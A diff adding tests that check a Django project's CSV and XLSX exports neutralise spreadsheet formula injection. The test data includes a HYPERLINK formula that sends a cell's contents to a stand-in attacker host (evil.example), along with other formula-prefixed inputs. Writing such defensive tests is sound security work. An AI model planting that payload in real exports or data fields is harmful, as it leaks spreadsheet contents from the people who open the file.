@@ -64,3 +64,73 @@ def test_ordinary_numbers_are_left_alone():
     text = "In 2023 the 11 areas had 21 measures; reference HKCQ-2026-000123-4"
     assert mask_personal_data(text) == text
     assert not contains_personal_data(text)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]
+
+
+def test_csv_neutralises_every_cell_that_would_start_a_formula():
+    import csv as csvmod
+    import io as iomod
+
+    from hkcq.core.exports import csv_text
+
+    text = csv_text([["title", "n"], *[[f, -5] for f in FORMULAS], ["plain - text", 3.5]])
+    rows = list(csvmod.reader(iomod.StringIO(text, newline="")))
+    assert [r[0] for r in rows[1:-1]] == ["'" + f for f in FORMULAS]
+    assert rows[1][1] == "-5"  # numbers are numbers, not text to neutralise
+    assert rows[-1] == ["plain - text", "3.5"]
+
+
+def test_xlsx_writes_formula_like_text_as_text():
+    import io as iomod
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from hkcq.core.exports import xlsx_bytes
+
+    content = xlsx_bytes({"Sheet": [["title"], *[[f] for f in FORMULAS], [-5]]})
+    with zipfile.ZipFile(iomod.BytesIO(content)) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
+    sheet = load_workbook(iomod.BytesIO(content)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells[:-1]] == [f.replace("\r", "\n") for f in FORMULAS] and all(
+        c.data_type == "s" for c in cells[:-1]
+    )
+    assert cells[-1].value == -5 and cells[-1].data_type == "n"
+
+
+def test_the_open_data_csv_and_the_digest_xlsx_carry_no_live_formula(defaults, client, secretariat_hk):
+    import io as iomod
+
+    from openpyxl import load_workbook
+
+    from hkcq.registry.models import Measure
+    from hkcq.suggestions.models import Suggestion
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    measure = Measure.objects.order_by("pk").first()
+    Measure.objects.filter(pk=measure.pk).update(title={"en": evil, "zh-hant": evil, "zh-hans": evil})
+    csv_body = client.get("/en/open-data/measures.csv").content.decode("utf-8-sig")
+    assert "'" + evil.replace('"', '""') in csv_body and "," + evil.replace('"', '""') not in csv_body
+    from django.utils import timezone
+
+    Suggestion.objects.create(
+        title=evil,
+        text="x",
+        public_title=evil,
+        language="en",
+        state="published",
+        status="adopted",
+        tracking_token="t-evil",
+        responded_at=timezone.now(),
+        published_at=timezone.now(),
+    )
+    client.force_login(secretariat_hk)
+    response = client.get("/en/suggestions/digest/", {"start": "2000-01-01", "end": "2100-01-01", "format": "xlsx"})
+    book = load_workbook(iomod.BytesIO(response.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert [c for c in cells if c.value == evil]  # there, as text
